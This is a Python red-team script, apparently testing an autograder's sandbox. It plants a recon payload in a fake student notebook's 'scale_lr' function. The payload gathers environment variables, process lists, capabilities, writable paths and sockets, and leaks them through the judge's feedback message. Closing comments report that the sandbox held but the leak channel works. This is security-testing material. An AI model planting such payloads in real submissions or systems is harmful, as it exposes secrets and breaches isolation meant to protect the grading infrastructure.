# a01 (root, ps3_batch): recon from inside the observer's child (where the hidden check runs the student's
# scale_lr) and from the kernel. The child returns a string, which the judge repeats ("returned '...'; return a
# float") into the feedback: an exfiltration channel for what the child can see (sys.path and which of its
# entries are writable, cwd, uid/caps, visible processes, /tmp, sockets). The kernel prints the same.
# RESULT: see the end of this file.
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "round5"))
from monitor import ac, grade_watched

RECON = r'''
def _recon():
    import os, sys, json, glob
    out = {"pid": os.getpid(), "ppid": os.getppid(), "uid": os.getresuid(), "cwd": os.getcwd(), "path": sys.path,
           "argv": sys.argv, "env": dict(os.environ)}
    out["writable_path"] = [p for p in sys.path if p and os.path.isdir(p) and os.access(p, os.W_OK)]
    out["cwd_ls"] = os.listdir(".")[:40]
    try:
        out["status"] = [l for l in open("/proc/self/status").read().splitlines() if l.startswith(("Cap", "Seccomp", "NoNewPrivs", "Uid"))]
    except Exception as e:
        out["status"] = repr(e)
    procs = {}
    for d in glob.glob("/proc/[0-9]*"):
        try:
            procs[d[6:]] = open(d + "/cmdline", "rb").read().replace(b"\0", b" ").decode()[:160]
        except Exception as e:
            procs[d[6:]] = repr(e)[:60]
    out["procs"] = procs
    out["tmp"] = [(r, ds, fs) for r, ds, fs in os.walk("/tmp")][:30]
    try:
        out["unix"] = open("/proc/net/unix").read()[-1500:]
    except Exception as e:
        out["unix"] = repr(e)
    out["mods_in_sys"] = sorted(m for m in sys.modules if m.startswith(("probes", "helpers", "autograders")))
    return json.dumps(out)
'''
SCALE = RECON + '''
def scale_lr(base_lr, base_batch, global_batch):
    return _recon()
'''
students = {"recon": ac.notebook(overrides={"scale_lr": SCALE}, append={"per_rank_batch": RECON + "\nprint(_recon())\n"},
                                 assignment="ps3_batch")}
dest = ac.make_course("r7-a01", students, assignment="ps3_batch")
grade_watched(dest)
ac.show(dest)
# RESULT (root, 09:13 UTC, /tmp/attack-course-r7-a01, a01_observer_child_recon.out.txt): HELD (recon only). The
# observer's child: uid 65534, CapEff 0, NoNewPrivs 1, Seccomp 2, cwd /tmp/observer-* (empty), sys.path without ''
# and with no writable entry, environment the allow-list only; it sees pids 1 (bwrap), 2 (placeholder), 3 (the
# observer), itself. The kernel: the same, plus '' (its own tmpfs copy of the folder) on sys.path. The judge's
# message ("returned '...'; return a float") carries whatever string the child returns into the feedback: a
# channel out of the observer for what the student's code sees there (nothing hidden was there to see).
